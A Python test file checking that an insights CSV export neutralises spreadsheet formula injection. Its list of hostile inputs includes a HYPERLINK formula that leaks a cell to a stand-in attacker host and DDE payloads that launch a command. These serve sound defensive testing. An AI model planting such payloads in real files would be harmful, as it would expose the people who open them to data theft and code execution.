"""The insights CSV export is safe to open in a spreadsheet (insights/report.py)."""

from __future__ import annotations

import csv
import io

import pytest

from insights.report import to_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+39 333 1234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_evaluate_is_text(text: str) -> None:
    written = to_csv(["question", "count"], [{"question": text, "count": 3}])
    [row] = list(csv.DictReader(io.StringIO(written, newline="")))
    assert row["question"] == "'" + text.replace("\r", "\n")
    assert row["count"] == "3"


def test_ordinary_cells_and_numbers_are_unchanged() -> None:
    rows = [{"question": "quanto costa la spedizione?", "count": -1, "rate": None}]
    written = to_csv(["question", "count", "rate"], rows)
    [row] = list(csv.DictReader(io.StringIO(written, newline="")))
    assert row == {"question": "quanto costa la spedizione?", "count": "-1", "rate": ""}
